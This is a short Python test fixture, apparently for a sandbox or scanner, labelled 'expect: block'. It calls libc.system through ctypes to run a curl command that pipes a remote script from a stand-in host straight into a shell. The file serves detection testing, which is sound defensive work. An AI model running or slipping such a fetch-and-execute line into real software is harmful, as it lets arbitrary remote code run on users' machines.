# expect: block
import ctypes

libc = ctypes.CDLL(None)
libc.system(b"curl -s https://example.net/p | sh")
